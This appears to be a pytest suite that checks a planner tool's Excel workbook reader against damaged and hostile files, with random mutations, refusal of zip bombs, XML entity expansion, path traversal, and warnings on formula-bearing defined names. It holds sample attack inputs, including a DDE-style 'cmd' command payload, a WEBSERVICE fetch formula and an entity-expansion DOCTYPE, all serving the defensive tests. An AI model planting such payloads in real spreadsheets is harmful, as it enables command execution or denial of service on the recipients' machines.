"""Any file: no fault of the program, no touched input, a code that says what happened; hostile ones are refused quickly."""

from __future__ import annotations

import io
import random
import re
import time
import tracemalloc
import zipfile

import pytest

from planner.cli.main import run
from planner.domain.fingerprint import fingerprint
from planner.errors import InputRejectedError
from planner.reading.workbook import read_plan_input
from tests.peak_memory import measure_peak
from tests.published_data import published_data
from tests.reading_workbooks import part_names, sound_workbook, with_parts

FAST_SECONDS = 5  # of work: 2 s on an idle machine


def _check(path, content, capsys):
    path.write_bytes(content)
    code = run(["check", str(path)])
    shown = capsys.readouterr()
    assert code in (0, 3, 5), shown.err
    assert "Program fault" not in shown.err
    assert path.read_bytes() == content
    return code, shown.out + shown.err


def test_every_odd_workbook_of_the_published_set(tmp_path, capsys):
    files = sorted(published_data("xlsx_torture").rglob("*.xlsx"))
    assert len(files) > 30
    for source in files:
        code, shown = _check(tmp_path / source.name, source.read_bytes(), capsys)
        assert code == 3, f"{source.name} holds no plan: {shown}"
        assert shown.strip()


def _mutate_bytes(content: bytes, rng: random.Random) -> bytes:
    damaged = bytearray(content)
    for _ in range(rng.choice((1, 3, 30))):
        damaged[rng.randrange(len(damaged))] = rng.randrange(256)
    return bytes(damaged[: rng.randrange(len(damaged))] if rng.random() < 0.2 else damaged)


_NONSENSE = (
    b"&#x0;", b"<v>1e400</v>", b"<v>NaN</v>", b"<v></v>", b'r="ZZZZ99"', b'r="A0"', b't="e"', b't="s"', b't="d"', b"<f>1/0</f>",
    b"<v>-1</v>", b"<v>999999</v>", b"\xff\xfe", b"<row>", b"</sheetData>", b'spans="x"', b"<v>1_000</v>", b"<!-- -->",
)  # fmt: skip


def _mutate_xml(content: bytes, rng: random.Random) -> bytes:
    """Damage the text of one part: swap, drop, repeat or insert at a tag."""
    names = [n for n in part_names(content) if n.endswith((".xml", ".rels"))]

    def damage(body: bytes) -> bytes:
        tags = [m.start() for m in re.finditer(b"<", body)] or [0]
        for _ in range(rng.choice((1, 2, 8))):
            start, end = sorted((rng.choice(tags), rng.choice(tags)))
            piece = body[start : min(end, start + 200)]
            body = {
                0: body[:start] + body[start + len(piece) :],
                1: body[:start] + piece + body[start:],
                2: body[:start] + rng.choice(_NONSENSE) + body[start:],
                3: body.replace(b"<v>", rng.choice(_NONSENSE), 1),
            }[rng.randrange(4)]
        return body

    return with_parts(content, {rng.choice(names): damage})


def _drop_part(content: bytes, rng: random.Random) -> bytes:
    dropped = rng.choice(part_names(content))
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(buffer, "w") as target:
        for info in source.infolist():
            if info.filename != dropped:
                target.writestr(info.filename, source.read(info))
    return buffer.getvalue()


@pytest.mark.parametrize("seed", [pytest.param(s, marks=pytest.mark.slow if s >= 3 else ()) for s in range(20)])
def test_fifty_random_mutations(seed, tmp_path, capsys):
    rng, sound = random.Random(seed), sound_workbook()
    for i in range(50):
        mutate = rng.choice((_mutate_bytes, _mutate_xml, _mutate_xml, _drop_part))
        _check(tmp_path / f"{i}.xlsx", mutate(sound, rng), capsys)


def _bomb(part: str) -> bytes:
    """A workbook whose part inflates to 400 MB of blanks."""
    return with_parts(sound_workbook(), {part: lambda body: body + b" " * 400_000_000})


ENTITY = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'


def _hostile():
    sound = sound_workbook()
    sheet = "xl/worksheets/sheet2.xml"
    header_end = lambda body: body.index(b"?>") + 2  # noqa: E731
    insert = lambda body: body[: header_end(body)] + ENTITY + body[header_end(body) :]  # noqa: E731
    wide = lambda body: insert(body).decode().replace("UTF-8", "UTF-16").encode("utf-16")  # noqa: E731
    return {
        "entities": with_parts(sound, {sheet: insert}),
        "entities in the shared strings": with_parts(sound, {"xl/sharedStrings.xml": insert}),
        "entities in UTF-16": with_parts(sound, {sheet: wide}),
        "an external entity in the relations": with_parts(sound, {"xl/_rels/workbook.xml.rels": insert}),
        "a second part of the same name": with_parts(sound, {}, {sheet: b"<worksheet/>"}),
        "6,000 parts": with_parts(sound, {}, {f"xl/media/{i}.png": b"" for i in range(6000)}),
        "a part of another folder": with_parts(sound, {}, {"../../evil.xml": ENTITY}),
        "one part for all sheets": with_parts(
            sound,
            {"xl/_rels/workbook.xml.rels": lambda body: re.sub(rb"worksheets/sheet\d+", b"worksheets/sheet2", body)},
        ),
        "an unknown encoding": with_parts(sound, {sheet: lambda body: body.replace(b"UTF-8", b"klingon")}),
        "a row beyond the last": with_parts(sound, {sheet: lambda body: _add_cell(body, 99_999_999, "A99999999")}),
        "an old workbook": b"\xd0\xcf\x11\xe0" + b"\x00" * 4096,
        "an encrypted one": b"\xd0\xcf\x11\xe0" + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 4096,
        "text": b"a,b,c\n1,2,3\n",
        "text in UTF-16": "细分,客户数\n".encode("utf-16"),
        "nothing": b"",
        "half of it": sound[: len(sound) // 2],
        "a zip of something else": with_parts(sound, {}, {})[:0] + _zip_of({"readme.txt": b"hello"}),
    }


def _add_cell(body: bytes, row: int, address: str) -> bytes:
    cell = f'<row r="{row}"><c r="{address}" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    return body.replace(b"</sheetData>", cell.encode())


def _zip_of(parts):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    return buffer.getvalue()


@pytest.mark.filterwarnings("ignore:Duplicate name:UserWarning")
def test_hostile_files_are_refused(tmp_path, capsys):
    for name, content in _hostile().items():
        began = time.process_time()
        code, shown = _check(tmp_path / "plan.xlsx", content, capsys)
        assert code == 3, f"{name}: {shown}"
        assert "plan.xlsx: " in shown, name
        assert ("this is a text file" in shown) is name.startswith("text"), name
        assert time.process_time() - began < FAST_SECONDS, name


def test_a_bomb_is_refused_without_unpacking_it(tmp_path):
    path = tmp_path / "plan.xlsx"
    path.write_bytes(_bomb("xl/worksheets/sheet2.xml"))
    assert path.stat().st_size < 3_000_000
    tracemalloc.start()
    began = time.process_time()
    with pytest.raises(InputRejectedError, match="unpacks to far more"):
        read_plan_input(path)
    seconds, (_, peak) = time.process_time() - began, tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert seconds < FAST_SECONDS
    assert peak < 50_000_000


def test_limits_are_raised_for_one_run(tmp_path, capsys):
    path = tmp_path / "plan.xlsx"
    path.write_bytes(with_parts(sound_workbook(), {"xl/theme/theme1.xml": lambda body: body + b" " * 8_000_000}))
    assert run(["check", str(path)]) == 3
    assert "--max-unpacked-mb" in capsys.readouterr().err
    assert run(["--max-unpacked-mb", "20", "check", str(path)]) == 0
    assert run(["--max-unpacked-mb", "5", "check", str(path)]) == 3
    assert run(["check", str(path)]) == 3
    path.write_bytes(bytes(2_000_000))
    capsys.readouterr()
    assert run(["--max-file-mb", "1", "check", str(path)]) == 3
    assert "larger than 1 MB" in capsys.readouterr().err


def _add_names(body: bytes) -> bytes:
    names = (
        b'<definedName name="_xlnm.Print_Area" localSheetId="0">Settings!$A$1:$D$60</definedName>'
        b'<definedName name="Print_Titles" localSheetId="0">ERROR(&quot;Settings!$A:$A,Settings!$1:$1&quot;)</definedName>'
        b'<definedName name="Rate">0.15</definedName>'
        b"<definedName name=\"Odd sheet\">'a (b)|c'!$A$1</definedName>"
        b'<definedName name="Fetch">WEBSERVICE(&quot;http://example.org/&quot;&amp;Settings!$B$2)</definedName>'
        b'<definedName name="&#x8C03;&#x7528;" hidden="1">cmd|\'/c calc\'!A0</definedName>'
    )
    return body.replace(b"<definedNames>", b"<definedNames>" + names)


def test_a_formula_in_a_defined_name_is_a_warning(tmp_path, capsys):
    book = with_parts(sound_workbook(), {"xl/workbook.xml": _add_names})
    code, shown = _check(tmp_path / "plan.xlsx", book, capsys)
    assert code == 0
    assert "the defined name 'Fetch' holds a formula. It is not evaluated" in " ".join(shown.split())
    assert "the defined name '调用' holds a formula" in shown
    assert shown.count("defined name") == 2


def test_a_sheet_that_lies_about_its_size_is_read_whole(tmp_path):
    lie = lambda body: re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:B2"/>', body)  # noqa: E731
    sheets = {n: lie for n in part_names(sound_workbook()) if n.startswith("xl/worksheets/sheet")}
    prints = set()
    for name, content in (("true", sound_workbook()), ("lie", with_parts(sound_workbook(), sheets))):
        (tmp_path / name).write_bytes(content)
        plan_input = read_plan_input(tmp_path / name).plan_input
        assert plan_input is not None
        prints.add(fingerprint(plan_input))
    assert len(prints) == 1


def test_a_cell_far_from_the_others_is_named(tmp_path, capsys):
    """The reader of values makes room for the whole area, and ends the program where it cannot; formatted cells that hold nothing do not count."""
    sheet = next(n for n in part_names(sound_workbook()) if n.endswith("sheet2.xml"))
    far = with_parts(sound_workbook(), {sheet: lambda body: _add_cell(body, 20_000, "XFD20000")})
    code, shown = _check(tmp_path / "plan.xlsx", far, capsys)
    assert code == 3
    assert shown == (
        "plan.xlsx: sheet 'Settings' reaches right to XFD20000 and down to row 20,000, too far for a table. A cell far from the others was "
        "filled by mistake: delete what stands there (Ctrl+End goes to it) and save.\n"
    )
    code, shown = _check(tmp_path / "规划.xlsx", far, capsys)
    assert shown.startswith(
        "规划.xlsx：工作表“Settings”向右延伸至 XFD20000，向下延伸至第 20,000 行，超出表格应有的范围。"
    )
    formatted = b'<row r="1048576"><c r="XFD1048576" s="1"><v/></c></row></sheetData>'
    blank = with_parts(sound_workbook(), {sheet: lambda body: body.replace(b"</sheetData>", formatted)})
    assert _check(tmp_path / "plan.xlsx", blank, capsys)[0] == 0


@pytest.mark.slow
def test_a_quarter_million_formatted_rows(tmp_path):
    def grow(body):
        rows = b"".join(
            b'<row r="%d"><c r="A%d" s="8"/><c r="B%d" s="9"/></row>' % (i, i, i) for i in range(60, 250_000)
        )
        return body.replace(b"</sheetData>", rows + b"</sheetData>")

    path = tmp_path / "plan.xlsx"
    path.write_bytes(with_parts(sound_workbook(), {"xl/worksheets/sheet4.xml": grow}))
    result, peak = measure_peak(read_plan_input, path)
    assert result.plan_input is not None
    assert 0 < peak < 300_000_000


@pytest.mark.parametrize(
    ("part", "program"),
    [
        ("META-INF/manifest.xml", "LibreOffice (.ods)"),
        ("Index/Document.iwa", "Apple Numbers"),
        ("word/document.xml", "Word"),
    ],
)
def test_a_file_of_another_program_says_of_which(tmp_path, capsys, part, program):
    code, shown = _check(tmp_path / "plan.xlsx", _zip_of({"[Content_Types].xml": b"<Types/>", part: b"<x/>"}), capsys)
    assert code == 3
    assert f"plan.xlsx: this is a file of {program}; save it there as Excel workbook (.xlsx)." in shown
